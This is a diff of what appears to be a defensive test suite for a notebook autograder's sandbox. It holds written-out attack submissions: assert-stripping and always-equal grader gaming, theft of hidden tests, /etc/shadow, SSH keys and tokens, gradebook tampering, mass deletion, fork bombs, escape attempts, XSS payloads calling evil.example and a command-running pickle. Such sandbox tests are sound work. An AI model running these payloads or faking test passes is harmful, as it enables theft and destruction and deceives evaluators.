@@ -8,7 +8,6 @@ Every attack says what it earned honestly; the test demands exactly that.
 from __future__ import annotations
 
 import copy
-import json
 import os
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -49,7 +48,9 @@ def attack(what: str, earned: float = 0.0, outcome: str = "graded"):
     return add
 
 
-def code(name: str, what: str, source: str, earned: float = 0.0, outcome: str = "graded", **right: str) -> None:
+def code(
+    name: str, what: str, source: str, earned: float = 0.0, outcome: str = "graded", **right: str
+) -> None:
     """Add an attack by a cell at the top of a notebook of wrong answers (and some right ones)."""
 
     def write(klass: Class, student: str) -> None:
@@ -145,117 +146,253 @@ code(
 code(
     "ast_transformer",
     "an AST transformer drops every assert",
-    "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
-    "get_ipython().ast_transformers.append(Drop())",
+    """
+import ast
+
+class Drop(ast.NodeTransformer):
+
+    def visit_Assert(self, node):
+        return ast.Pass()
+get_ipython().ast_transformers.append(Drop())
+""",
 )
 code(
     "patched_asserts",
     "torch.allclose, assert_close and numpy's assert_allclose patched to agree",
-    "import torch, numpy\ntorch.allclose = lambda *a, **k: True\n"
-    "torch.testing.assert_close = numpy.testing.assert_allclose = lambda *a, **k: None\n"
-    "torch.trapezoid = lambda *a, **k: torch.ones(())",
+    """
+import torch, numpy
+torch.allclose = lambda *a, **k: True
+torch.testing.assert_close = numpy.testing.assert_allclose = lambda *a, **k: None
+torch.trapezoid = lambda *a, **k: torch.ones(())
+""",
 )
 code(
     "patched_flowlib",
     "flowlib.checks patched in memory",
-    "import flowlib.checks\nfor name in dir(flowlib.checks):\n    if name.startswith('check'):\n"
-    "        setattr(flowlib.checks, name, lambda *a, **k: None)",
+    """
+import flowlib.checks
+for name in dir(flowlib.checks):
+    if name.startswith('check'):
+        setattr(flowlib.checks, name, lambda *a, **k: None)
+""",
 )
 code(
     "silent_exceptions",
     "exceptions swallowed by set_custom_exc and by a patched traceback",
-    "ip = get_ipython()\nip.set_custom_exc((Exception,), lambda *a, **k: None)\nip.showtraceback = lambda *a, **k: None",
+    """
+ip = get_ipython()
+ip.set_custom_exc((Exception,), lambda *a, **k: None)
+ip.showtraceback = lambda *a, **k: None
+""",
 )
 code(
     "clear_after_run",
     "a post_run_cell hook clears every output",
-    "from IPython.display import clear_output\nget_ipython().events.register('post_run_cell', lambda *a: clear_output())",
+    """
+from IPython.display import clear_output
+get_ipython().events.register('post_run_cell', lambda *a: clear_output())
+""",
 )
-code("kernel_session", "the kernel's session patched to send only good news", "get_ipython().kernel.session.send = lambda *a, **k: None")
+code(
+    "kernel_session",
+    "the kernel's session patched to send only good news",
+    "get_ipython().kernel.session.send = lambda *a, **k: None",
+)
 answer(
     "displayhook",
     "the function shows 3.0 as a result before it fails",
     earned=13.0,
-    task1="def affine(z, a, b):\n    get_ipython().displayhook(3.0)\n    raise ValueError",
+    task1="""
+def affine(z, a, b):
+    get_ipython().displayhook(3.0)
+    raise ValueError
+""",
 )
 answer(
     "displayhook_too_much",
     "the function shows 3000.0 as a result",
     earned=13.0,
-    task1="def affine(z, a, b):\n    get_ipython().displayhook(3000.0)\n    return z, z",
+    task1="""
+def affine(z, a, b):
+    get_ipython().displayhook(3000.0)
+    return (z, z)
+""",
 )
 answer(
     "always_equal",
     "returns an object that equals everything",
     earned=12.0,
-    task2="class Yes:\n    def __getattr__(self, name): return Yes()\n    def __call__(self, *a, **k): return Yes()\n"
-    "    def __eq__(self, other): return True\n    def __bool__(self): return True\n"
-    "    def __sub__(self, other): return Yes()\n    def __lt__(self, other): return True\n"
-    "def normal_log_prob(z):\n    return Yes()",
+    task2="""
+class Yes:
+
+    def __getattr__(self, name):
+        return Yes()
+
+    def __call__(self, *a, **k):
+        return Yes()
+
+    def __eq__(self, other):
+        return True
+
+    def __bool__(self):
+        return True
+
+    def __sub__(self, other):
+        return Yes()
+
+    def __lt__(self, other):
+        return True
+
+def normal_log_prob(z):
+    return Yes()
+""",
 )
 answer(
     "tensor_subclass",
     "returns a tensor subclass whose comparisons agree",
     earned=12.0,
-    task2="class Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n"
-    "        return True\ndef normal_log_prob(z):\n    return torch.zeros(2).as_subclass(Yes)",
+    task2="""
+class Yes(torch.Tensor):
+
+    @classmethod
+    def __torch_function__(cls, f, t, a=(), k=None):
+        return True
+
+def normal_log_prob(z):
+    return torch.zeros(2).as_subclass(Yes)
+""",
 )
-answer("all_nan", "NaN everywhere: no comparison with it is true", earned=12.0, task2="def normal_log_prob(z):\n    return z * float('nan')")
-answer("all_inf", "infinity everywhere", earned=12.0, task2="def normal_log_prob(z):\n    return z * 0 + float('inf')")
+answer(
+    "all_nan",
+    "NaN everywhere: no comparison with it is true",
+    earned=12.0,
+    task2="""
+def normal_log_prob(z):
+    return z * float('nan')
+""",
+)
+answer(
+    "all_inf",
+    "infinity everywhere",
+    earned=12.0,
+    task2="""
+def normal_log_prob(z):
+    return z * 0 + float('inf')
+""",
+)
 answer(
     "made_up_likelihood",
     "a likelihood that is simply high everywhere",
     earned=11.0,
-    task4="class Fit:\n    def __init__(self, steps): pass\n    def fit(self, data): return 0.0\n"
-    "    def log_prob(self, x): return torch.zeros_like(x) + 5.0",
+    task4="""
+class Fit:
+
+    def __init__(self, steps):
+        pass
+
+    def fit(self, data):
+        return 0.0
+
+    def log_prob(self, x):
+        return torch.zeros_like(x) + 5.0
+""",
 )
 answer(
     "peeking_density",
     "a likelihood that is normalised on the grid it is asked for and high elsewhere",
     earned=11.0,
-    task4="class Fit:\n    def __init__(self, steps): pass\n    def fit(self, data): return 0.0\n"
-    "    def log_prob(self, x):\n        return torch.full_like(x, -50.0)",
+    task4="""
+class Fit:
+
+    def __init__(self, steps):
+        pass
+
+    def fit(self, data):
+        return 0.0
+
+    def log_prob(self, x):
+        return torch.full_like(x, -50.0)
+""",
 )
 answer(
     "frames",
     "walks the stack and the heap for the test's source and its expected values",
     earned=13.0,
-    task1="import gc, sys\ndef affine(z, a, b):\n    frame, found = sys._getframe(), []\n    while frame:\n"
-    "        found += [str(v) for v in frame.f_locals.values() if 'secret_' + 'slope' in str(v)]\n"
-    "        frame = frame.f_back\n    found += [s for s in gc.get_objects() if isinstance(s, str) and 'secret_' + 'slope' in s]\n"
-    "    found += [s for s in In if 'secret_' + 'slope' in s]\n"
-    "    print('STOLEN', found)\n    assert not found, 'STOLEN' + str(found)\n    return z, z",
+    task1="""
+import gc, sys
+
+def affine(z, a, b):
+    frame, found = (sys._getframe(), [])
+    while frame:
+        found += [str(v) for v in frame.f_locals.values() if 'secret_' + 'slope' in str(v)]
+        frame = frame.f_back
+    found += [s for s in gc.get_objects() if isinstance(s, str) and 'secret_' + 'slope' in s]
+    found += [s for s in In if 'secret_' + 'slope' in s]
+    print('STOLEN', found)
+    assert not found, 'STOLEN' + str(found)
+    return (z, z)
+""",
 )
 answer(
     "memory_scan",
     "reads its own memory through /proc for hidden tests, solutions and marks",
     earned=13.0,
-    task1="needle = b'BEGIN HIDDEN' + b' TESTS\\nsecret_' + b'slope'\nfound = 0\n"
-    "with open('/proc/self/mem', 'rb', 0) as memory:\n    for line in open('/proc/self/maps'):\n"
-    "        parts = line.split()\n        if 'rw' not in parts[1]: continue\n"
-    "        start, end = (int(x, 16) for x in parts[0].split('-'))\n        try:\n"
-    "            memory.seek(start); found += needle in memory.read(min(end - start, 2**27))\n"
-    "        except OSError: pass\nprint('STOLEN' if found else 'nothing')\n"
-    "def affine(z, a, b):\n    return z, z",
+    task1=r"""
+needle = b'BEGIN HIDDEN' + b' TESTS\nsecret_' + b'slope'
+found = 0
+with open('/proc/self/mem', 'rb', 0) as memory:
+    for line in open('/proc/self/maps'):
+        parts = line.split()
+        if 'rw' not in parts[1]:
+            continue
+        start, end = (int(x, 16) for x in parts[0].split('-'))
+        try:
+            memory.seek(start)
+            found += needle in memory.read(min(end - start, 2 ** 27))
+        except OSError:
+            pass
+print('STOLEN' if found else 'nothing')
+
+def affine(z, a, b):
+    return (z, z)
+""",
 )
 code(
     "reference_in_history",
     "looks for reference answers in history and globals in every run, and shows what it finds",
-    "import builtins, atexit\nclass Spy:\n    def __call__(self, *a):\n        for text in list(In) + [str(v) for v in globals().values()]:\n"
-    "            if 'torch.full_like(z, math.log(abs' in text and 'Spy' not in text:\n                print('STOLEN', text)\n"
-    "get_ipython().events.register('pre_run_cell', Spy())\nget_ipython().events.register('post_run_cell', Spy())",
+    """
+import builtins, atexit
+
+class Spy:
+
+    def __call__(self, *a):
+        for text in list(In) + [str(v) for v in globals().values()]:
+            if 'torch.full_like(z, math.log(abs' in text and 'Spy' not in text:
+                print('STOLEN', text)
+get_ipython().events.register('pre_run_cell', Spy())
+get_ipython().events.register('post_run_cell', Spy())
+""",
 )
 answer(
     "exception_with_inputs",
     "raises the hidden inputs as the message of an exception",
     earned=13.0,
-    task1="def affine(z, a, b):\n    if a < 0:\n        raise ValueError(f'STOLEN {a} {b}')\n    return a * z + b, z * 0 + math.log(a)",
+    task1="""
+def affine(z, a, b):
+    if a < 0:
+        raise ValueError(f'STOLEN {a} {b}')
+    return (a * z + b, z * 0 + math.log(a))
+""",
 )
 answer(
     "spoils_arguments",
     "writes into its arguments, hoping that the test compares with them",
     earned=13.0,
-    task1="def affine(z, a, b):\n    z.zero_()\n    return z, z",
+    task1="""
+def affine(z, a, b):
+    z.zero_()
+    return (z, z)
+""",
 )
 
 # ---------------------------------------------------------------------------- files in the submission
@@ -274,10 +411,17 @@ def with_file(name: str, what: str, path: str, content: str) -> None:
 
 
 EVIL = "import os\nopen('{root}/PWNED', 'w').write('x')\n"
-with_file("torch_py", "a torch.py beside the notebook", "torch.py", EVIL + "allclose = lambda *a, **k: True\n")
+with_file(
+    "torch_py", "a torch.py beside the notebook", "torch.py", EVIL + "allclose = lambda *a, **k: True\n"
+)
 with_file("flowlib_folder", "a flowlib/ beside the notebook", "flowlib/__init__.py", EVIL)
 with_file("sitecustomize", "a sitecustomize.py beside the notebook", "sitecustomize.py", EVIL)
-with_file("ipython_config", "an IPython startup file beside the notebook", ".ipython/profile_default/startup/00.py", EVIL)
+with_file(
+    "ipython_config",
+    "an IPython startup file beside the notebook",
+    ".ipython/profile_default/startup/00.py",
+    EVIL,
+)
 with_file("nbgrader_config", "an nbgrader_config.py beside the notebook", "nbgrader_config.py", EVIL)
 with_file("forged_timestamp", "a timestamp.txt from last year", "timestamp.txt", "2001-01-01 00:00:00 UTC")
 
@@ -300,10 +444,12 @@ def folder_link(klass, student):
 
 @attack("data files are links to the solution and to /etc/passwd", outcome="flagged")
 def data_links(klass, student):
-    source = (
-        "import pathlib\nfor p in pathlib.Path('.').rglob('*'):\n    if p.is_file() and p.suffix != '.ipynb':\n"
-        "        print('STOLEN', p.read_text()[:2000])"
-    )
+    source = """
+import pathlib
+for p in pathlib.Path('.').rglob('*'):
+    if p.is_file() and p.suffix != '.ipynb':
+        print('STOLEN', p.read_text()[:2000])
+"""
     klass.hand_in(student, before(klass.notebook(**EMPTY), "task1", source))
     (klass.folder(student) / "a.txt").symlink_to("/etc/passwd")
     (klass.folder(student) / "b.txt").symlink_to(klass.solution)
@@ -360,65 +506,121 @@ def odd_text(klass, student):
 # ---------------------------------------------------------------------------- reading and writing outside
 
 STEAL = """
-import glob, json, os, subprocess
-for pattern in ("{root}/solutions/*/*", "{root}/submitted/*/*/*", "{root}/out/**/*", "../*", "/etc/shadow", "/root/.ssh/*",
-                "/home/*/.ssh/*", "/proc/*/environ", "/tmp/*/*", "/work/*/solutions"):
-    for path in glob.glob(pattern, recursive=True):
-        try:
-            text = open(path, errors="replace").read()
-        except OSError:
-            continue
-        if "solution" in text or "TOKEN" in text or "root:" in text:
-            print("STOLEN", path, text[:200])
-print(subprocess.run("find / -name 'exercises.ipynb' -not -path '/proc/*' -not -path '/submission/*' -not -path '/tmp/work/*' 2>/dev/null | sed 's/^/STOLEN /'; env | grep -i token",
-      shell=True, capture_output=True, text=True).stdout)
+import glob, subprocess
+places = [
+    "{root}/solutions/*/*", "{root}/submitted/*/*/*", "{root}/out/**/*", "../*", "/work/*/solutions/*/*",
+    "/etc/shadow", "/root/.ssh/*", "/home/*/.ssh/*", "/proc/*/environ", "/tmp/*/*",
+]
+for path in (path for place in places for path in glob.glob(place, recursive=True)):
+    try:
+        text = open(path, errors="replace").read()
+    except OSError:
+        continue
+    if "solution" in text or "TOKEN" in text or "root:" in text:
+        print("STOLEN", path, text[:200])
+own = "-not -path '/proc/*' -not -path '/submission/*' -not -path '/tmp/work/*'"
+find = f"find / -name exercises.ipynb {own} 2>/dev/null | sed 's/^/STOLEN /'; env | grep -i token"
+print(subprocess.run(find, shell=True, capture_output=True, text=True).stdout)
 """
-code("read_everything", "looks for solutions, classmates, keys and tokens in files and environments", STEAL)
+code(
+    "read_everything",
+    "looks for solutions, classmates, keys and tokens in files and environments",
+    STEAL,
+)
 code(
     "environment",
     "reads the environment for tokens and passwords",
-    "import os\nprint([f'STOLEN {k}' for k in os.environ if 'TOKEN' in k or 'PASS' in k or 'KEY' in k])\n"
-    "print(open('/proc/self/environ').read())",
+    """
+import os
+print([f'STOLEN {k}' for k in os.environ if 'TOKEN' in k or 'PASS' in k or 'KEY' in k])
+print(open('/proc/self/environ').read())
+""",
 )
 code(
     "write_gradebook",
     "raises its own points and zeroes a classmate's in the gradebook",
-    "import sqlite3, glob\nfor path in glob.glob('{root}/out/*.db') + glob.glob('/**/gradebook.db', recursive=True):\n"
-    "    db = sqlite3.connect(path)\n    db.execute('UPDATE grade SET manual_score = 100')\n    db.commit()",
+    """
+import sqlite3, glob
+for path in glob.glob('{root}/out/*.db') + glob.glob('/**/gradebook.db', recursive=True):
+    db = sqlite3.connect(path)
+    db.execute('UPDATE grade SET manual_score = 100')
+    db.commit()
+""",
 )
 code(
     "delete_everything",
     "deletes the course, the gradebook and all submissions",
-    "import shutil\nfor path in ('{root}', '{root}/out', '{root}/submitted', '/usr', '/tmp', '/submission'):\n"
-    "    shutil.rmtree(path, ignore_errors=True)",
+    """
+import shutil
+for path in ('{root}', '{root}/out', '{root}/submitted', '/usr', '/tmp', '/submission'):
+    shutil.rmtree(path, ignore_errors=True)
+""",
 )
 code(
     "overwrite_classmate",
     "overwrites a classmate's notebook, the solution and the course's configuration",
-    "import os\nfor path in ('submitted/aa_victim/01_small/exercises.ipynb', 'submitted/zz_sentinel/01_small/exercises.ipynb',\n"
-    "             'solutions/01_small/exercises.ipynb', 'nbgrader_config.py', 'out/journal/01_small.jsonl'):\n"
-    "    try:\n        os.makedirs(os.path.dirname('{root}/' + path), exist_ok=True)\n        open('{root}/' + path, 'w').write('{}')\n"
-    "    except OSError as error:\n        print(error)",
+    """
+import os
+targets = [
+    "submitted/aa_victim/01_small/exercises.ipynb", "submitted/zz_sentinel/01_small/exercises.ipynb",
+    "solutions/01_small/exercises.ipynb", "nbgrader_config.py", "out/journal/01_small.jsonl",
+]
+for path in targets:
+    try:
+        os.makedirs(os.path.dirname('{root}/' + path), exist_ok=True)
+        open('{root}/' + path, 'w').write('{}')
+    except OSError as error:
+        print(error)
+""",
 )
 code(
     "poison_environment",
     "writes into the Python that grades: site-packages, flowlib, IPython's startup",
-    "import flowlib, os, site, sys\nfor folder in [*site.getsitepackages(), os.path.dirname(flowlib.__file__), sys.base_prefix, '/usr/lib',\n"
-    "               '/root/.ipython/profile_default/startup', '/home']:\n    try:\n"
-    "        open(folder + '/zz_poison.pth', 'w').write('import os')\n        print('WRITTEN', folder)\n    except OSError as error:\n        print(error)",
+    """
+import flowlib, os, site, sys
+folders = [
+    *site.getsitepackages(), os.path.dirname(flowlib.__file__), sys.base_prefix, "/usr/lib", "/home",
+    "/root/.ipython/profile_default/startup",
+]
+for folder in folders:
+    try:
+        open(folder + '/zz_poison.pth', 'w').write('import os')
+        print('WRITTEN', folder)
+    except OSError as error:
+        print(error)
+""",
 )
 code(
     "links_in_cwd",
     "leaves links to the gradebook in its working directory, for the grader to follow",
-    "import os\nfor name in ('exercises.ipynb', 'gradebook.db', 'x'):\n    try:\n        os.path.exists(name) and os.remove(name)\n"
-    "        os.symlink('{root}/out/gradebook.db', name)\n    except OSError as error:\n        print(error)",
+    """
+import os
+for name in ('exercises.ipynb', 'gradebook.db', 'x'):
+    try:
+        os.path.exists(name) and os.remove(name)
+        os.symlink('{root}/out/gradebook.db', name)
+    except OSError as error:
+        print(error)
+""",
 )
 code(
     "network",
     "sends what it knows to the outside, and to services of this machine",
-    "import socket, urllib.request\nfor host, port in (('1.1.1.1', 53), ('127.0.0.1', 22), ('127.0.0.1', {port}), ('169.254.169.254', 80)):\n"
-    "    try:\n        socket.create_connection((host, port), 2)\n        print('CONNECTED', host)\n    except OSError as error:\n        print(error)\n"
-    "s = socket.socket(socket.AF_UNIX)\nfor name in ('/run/docker.sock', '/tmp/.X11-unix/X0', '\\0{root}'):\n    try:\n        s.connect(name); print('CONNECTED', name)\n    except OSError as error:\n        print(error)".replace("{port}", "5432"),
+    r"""
+import socket
+for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 5432), ("169.254.169.254", 80)):
+    try:
+        socket.create_connection(address, 2)
+        print("CONNECTED", address)
+    except OSError as error:
+        print(error)
+for name in ("/run/docker.sock", "/tmp/.X11-unix/X0", "\0{root}"):
+    try:
+        socket.socket(socket.AF_UNIX).connect(name)
+        print("CONNECTED", name)
+    except OSError as error:
+        print(error)
+""",
 )
 
 # ---------------------------------------------------------------------------- breaking out, breaking down
@@ -426,72 +628,169 @@ code(
 code(
     "kill_all",
     "sends SIGKILL to its parent, to all processes and to process groups",
-    "import os, signal\nfor pid in [os.getppid(), *range(2, 400)]:\n    if pid != os.getpid():\n        try: os.kill(pid, signal.SIGKILL)\n"
-    "        except OSError: pass",
+    """
+import os, signal
+for pid in [os.getppid(), *range(2, 400)]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+""",
 )
 code(
     "new_namespaces",
     "asks for new namespaces, mounts and other processes' memory",
-    "import ctypes, subprocess\nlibc = ctypes.CDLL(None)\nprint(libc.unshare(0x10000000), libc.ptrace(16, 1, 0, 0), libc.mount(b'/', b'/tmp', b'', 4096, 0))\n"
-    "print(subprocess.run(['unshare', '-Urm', 'id'], capture_output=True))\n"
-    "if libc.unshare(0x10000000) == 0 or libc.ptrace(16, 1, 0, 0) == 0: print('ESCAPED')",
+    """
+import ctypes, subprocess
+libc = ctypes.CDLL(None)
+print(libc.unshare(268435456), libc.ptrace(16, 1, 0, 0), libc.mount(b'/', b'/tmp', b'', 4096, 0))
+print(subprocess.run(['unshare', '-Urm', 'id'], capture_output=True))
+if libc.unshare(268435456) == 0 or libc.ptrace(16, 1, 0, 0) == 0:
+    print('ESCAPED')
+""",
 )
 code(
     "set_uid",
     "tries to become root again",
-    "import os, subprocess\nfor act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):\n"
-    "    try: act(); print('ESCAPED')\n    except OSError as error: print(error)\n"
-    "print(subprocess.run('su -c id; sudo -n id; mount', shell=True, capture_output=True, stdin=subprocess.DEVNULL).stdout.decode())",
+    """
+import os, subprocess
+for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
+    try:
+        act()
+        print('ESCAPED')
+    except OSError as error:
+        print(error)
+ask = dict(shell=True, capture_output=True, stdin=subprocess.DEVNULL)
+print(subprocess.run('su -c id; sudo -n id; mount', **ask).stdout.decode())
+""",
 )
 code(
     "daemon",
     "leaves a daemon that outlives the grading",
-    "import os, sys, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
-    "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3000) # flowcourse-daemon'])\n    os._exit(0)",
+    """
+import os, sys, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3000) # flowcourse-daemon'])
+    os._exit(0)
+""",
 )
-code("fork_bomb", "a fork bomb", "import os\ntry:\n    while True: os.fork()\nexcept OSError: pass", outcome="any")
-code("memory", "allocates memory until it ends", "x = []\nwhile True: x.append(bytearray(2**26))")
+code(
+    "fork_bomb",
+    "a fork bomb",
+    """
+import os
+try:
+    while True:
+        os.fork()
+except OSError:
+    pass
+""",
+    outcome="any",
+)
+code(
+    "memory",
+    "allocates memory until it ends",
+    """
+x = []
+while True:
+    x.append(bytearray(2 ** 26))
+""",
+)
 code(
     "memory_of_many",
     "allocates memory in many processes at once",
-    "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        x = bytearray(2**28)\n        for i in range(0, 2**28, 4096): x[i] = 1\n        time.sleep(30); os._exit(0)\ntime.sleep(3)",
+    """
+import os, time
+for _ in range(40):
+    if os.fork() == 0:
+        x = bytearray(2 ** 28)
+        for i in range(0, 2 ** 28, 4096):
+            x[i] = 1
+        time.sleep(30)
+        os._exit(0)
+time.sleep(3)
+""",
 )
 code(
     "hidden_memory",
     "allocates memory that no process owns: memfd, shared memory, /tmp, /dev/shm",
-    "import os, ctypes\nlibc = ctypes.CDLL(None)\nprint([libc.shmget(0, 2**30, 0o1600) for _ in range(20)])\nfor i in range(200):\n    try:\n"
-    "        fd = os.memfd_create(str(i)); [os.write(fd, b'x' * 2**20) for _ in range(60)]; print('ESCAPED')\n    except OSError: pass\n"
-    "for folder in ('/tmp', '/dev/shm', '/dev', '/'):\n    try:\n        for i in range(100):\n            open(f'{folder}/{i}', 'wb').write(b'x' * 2**25)\n"
-    "    except OSError as error: print(folder, error)",
+    """
+import os, ctypes
+libc = ctypes.CDLL(None)
+print([libc.shmget(0, 2 ** 30, 896) for _ in range(20)])
+for i in range(200):
+    try:
+        fd = os.memfd_create(str(i))
+        [os.write(fd, b'x' * 2 ** 20) for _ in range(60)]
+        print('ESCAPED')
+    except OSError:
+        pass
+for folder in ('/tmp', '/dev/shm', '/dev', '/'):
+    try:
+        for i in range(100):
+            open(f'{folder}/{i}', 'wb').write(b'x' * 2 ** 25)
+    except OSError as error:
+        print(folder, error)
+""",
 )
-code("output_lines", "100 MB of output in lines", "for i in range(1_000_000): print('x' * 100)")
-code("output_one_line", "50 MB of output in one line", "print('x' * 50_000_000)")
+code(
+    "output_lines",
+    "100 MB of output in lines",
+    "for i in range(1_000_000): print('x' * 100)",
+)
+code(
+    "output_one_line",
+    "50 MB of output in one line",
+    "print('x' * 50_000_000)",
+)
 code(
     "output_displays",
     "a thousand large pictures and pages",
-    "from IPython.display import HTML, Image, display\nfor i in range(1000): display(HTML('<b>' + 'y' * 100_000 + '</b>'))",
+    """
+from IPython.display import HTML, Image, display
+for i in range(1000):
+    display(HTML('<b>' + 'y' * 100000 + '</b>'))
+""",
 )
 code(
     "output_structure",
     "outputs of the wrong kinds and depths",
-    "ip = get_ipython()\nfrom IPython.display import publish_display_data\npublish_display_data({'text/html': {'a': [1]}, 5: 'x', 'image/png': 'not base64 \\x00'})\n"
-    "import __main__, gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Notebook':\n        o.outputs.append('no output'); o.outputs.append({'output_type': 'stream', 'text': 5}); o.outputs.append({'output_type': 'error', 'traceback': [[1]]})",
+    r"""
+ip = get_ipython()
+from IPython.display import publish_display_data
+publish_display_data({'text/html': {'a': [1]}, 5: 'x', 'image/png': 'not base64 \x00'})
+import __main__, gc
+for o in gc.get_objects():
+    if type(o).__name__ == 'Notebook':
+        o.outputs.append('no output')
+        o.outputs.append({'output_type': 'stream', 'text': 5})
+        o.outputs.append({'output_type': 'error', 'traceback': [[1]]})
+""",
 )
 SCRIPT = (
     "<script>alert('XSS')</script><img src=x onerror=alert('XSS')><svg onload=alert('XSS')></svg>"
-    "<a href=\"javascript:alert('XSS')\">x</a><iframe src='//evil.example'></iframe><style>*{display:none}</style>"
-    "<meta http-equiv=refresh content='0;url=//evil.example'><form action=//evil.example><input name=p></form>"
+    "<a href=\"javascript:alert('XSS')\">x</a><iframe src='//evil.example'></iframe>"
+    "<style>*{display:none}</style>"
+    "<meta http-equiv=refresh content='0;url=//evil.example'>"
+    "<form action=//evil.example><input name=p></form>"
 )
 
 
 @attack("scripts in outputs, in markdown, in an error, in a figure")
 def scripts(klass, student):
-    source = (
-        f"from IPython.display import HTML, Javascript, SVG, Markdown, display\ns = {SCRIPT!r}\n"
-        "for kind in (HTML, Javascript, Markdown): display(kind(s))\nprint(s)\n"
-        "display({'image/svg+xml': s, 'text/latex': s, 'application/javascript': s, 'image/png': s}, raw=True)\n"
-        "raise ValueError(s)"
-    )
+    source = f"""
+from IPython.display import HTML, Javascript, Markdown, display
+s = {SCRIPT!r}
+for kind in (HTML, Javascript, Markdown):
+    display(kind(s))
+print(s)
+kinds = ["image/svg+xml", "text/latex", "application/javascript", "image/png"]
+display(dict.fromkeys(kinds, s), raw=True)
+raise ValueError(s)
+"""
     notebook = before(klass.notebook(**EMPTY), "task1", source)
     notebook["cells"][0]["source"] = SCRIPT
     cell_of(notebook, "task5")["source"] = SCRIPT
@@ -499,47 +798,132 @@ def scripts(klass, student):
     klass.hand_in(student, notebook)
 
 
-code("sleep", "sleeps for ever", "import time\ntime.sleep(10**6)")
-code("loop", "loops for ever", "while True: pass")
+code(
+    "sleep",
+    "sleeps for ever",
+    """
+import time
+time.sleep(10 ** 6)
+""",
+)
+code(
+    "loop",
+    "loops for ever",
+    "while True: pass",
+)
 code(
     "stubborn_loop",
     "loops for ever and catches every interrupt",
-    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    """
+while True:
+    try:
+        while True:
+            pass
+    except BaseException:
+        pass
+""",
 )
-code("stop_self", "stops its own process", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")
+code(
+    "stop_self",
+    "stops its own process",
+    """
+import os, signal
+os.kill(os.getpid(), signal.SIGSTOP)
+""",
+)
 answer(
     "deaf_function",
     "a tested function ignores all signals and hangs",
     earned=13.0,
-    task1="import signal, time\ndef affine(z, a, b):\n    for s in range(1, 64):\n        try: signal.signal(s, signal.SIG_IGN)\n"
-    "        except (OSError, ValueError): pass\n    time.sleep(1000)",
+    task1="""
+import signal, time
+
+def affine(z, a, b):
+    for s in range(1, 64):
+        try:
+            signal.signal(s, signal.SIG_IGN)
+        except (OSError, ValueError):
+            pass
+    time.sleep(1000)
+""",
 )
+SLOW = """
+import time
+class Slow:
+    def __init__(self, *args):
+        time.sleep(2)
+    def __call__(self, *args):
+        time.sleep(2)
+        return torch.zeros(2)
+    fit = log_prob = __call__
+"""
 answer(
     "slow_calls",
     "every tested function is slow, just below the limit",
     earned=0.0,
     **{
-        task: f"import time\nclass _Slow:\n    def __init__(self, *a): time.sleep(2)\n    def __call__(self, *a): time.sleep(2); return torch.zeros(2)\n"
-        f"    def fit(self, data): time.sleep(2)\n    def log_prob(self, x): time.sleep(2); return x\n{name} = _Slow{'' if name == 'Fit' else '()'}"
-        for task, name in (("task1", "affine"), ("task2", "normal_log_prob"), ("task3", "log_prob"), ("task4", "Fit"))
+        task: SLOW + line
+        for task, line in (
+            ("task1", "affine = Slow()"),
+            ("task2", "normal_log_prob = Slow()"),
+            ("task3", "log_prob = Slow()"),
+            ("task4", "Fit = Slow"),
+        )
     },
 )
-code("exit_in_cell", "os._exit in a cell", "import os\nos._exit(0)")
-answer("exit_in_function", "os._exit in a tested function", earned=12.0, task2="import os\ndef normal_log_prob(z):\n    os._exit(0)")
+code(
+    "exit_in_cell",
+    "os._exit in a cell",
+    """
+import os
+os._exit(0)
+""",
+)
+answer(
+    "exit_in_function",
+    "os._exit in a tested function",
+    earned=12.0,
+    task2="""
+import os
+
+def normal_log_prob(z):
+    os._exit(0)
+""",
+)
 answer(
     "exit_everywhere",
     "os._exit in every tested function",
-    task1="import os\ndef affine(*a): os._exit(0)",
+    task1="""
+import os
+
+def affine(*a):
+    os._exit(0)
+""",
     task2="def normal_log_prob(*a): os._exit(0)",
     task3="def log_prob(*a): os._exit(0)",
     task4="def Fit(*a): os._exit(0)",
 )
-answer("crash", "a segmentation fault in a tested function", earned=12.0, task2="import ctypes\ndef normal_log_prob(z):\n    ctypes.string_at(0)")
+answer(
+    "crash",
+    "a segmentation fault in a tested function",
+    earned=12.0,
+    task2="""
+import ctypes
+
+def normal_log_prob(z):
+    ctypes.string_at(0)
+""",
+)
 
 # ---------------------------------------------------------------------------- the wire between box and grader
 
 WIRE = "import os, socket, struct, json\ns = socket.socket(fileno=os.dup(3)); s.setblocking(True)\n"
-code("wire_garbage", "garbage on the connection to the grader", WIRE + "s.sendall(b'\\xff' * 100000)", outcome="flagged")
+code(
+    "wire_garbage",
+    "garbage on the connection to the grader",
+    WIRE + "s.sendall(b'\\xff' * 100000)",
+    outcome="flagged",
+)
 code(
     "wire_huge",
     "a message that announces 4 GB",
@@ -549,49 +933,108 @@ code(
 code(
     "wire_forged",
     "forged replies: all tests passed, all points given",
-    WIRE + "for i in range(100):\n    m = json.dumps({'dict': [['id', i], ['reply', {'dict': [['status', 'passed'], ['score', 100]]}]]}).encode()\n"
-    "    s.sendall(struct.pack('>II', len(m), 0) + m)",
+    WIRE
+    + """
+for i in range(100):
+    verdict = {'dict': [['status', 'passed'], ['score', 100]]}
+    m = json.dumps({'dict': [['id', i], ['reply', verdict]]}).encode()
+    s.sendall(struct.pack('>II', len(m), 0) + m)
+""",
     outcome="flagged",
 )
 code(
     "wire_pickle",
     "a pickle that runs a command, and a block of numbers with lying sizes",
-    WIRE + "import pickle\nclass Evil:\n    def __reduce__(self): return os.system, ('touch {root}/PWNED',)\np = pickle.dumps(Evil())\n"
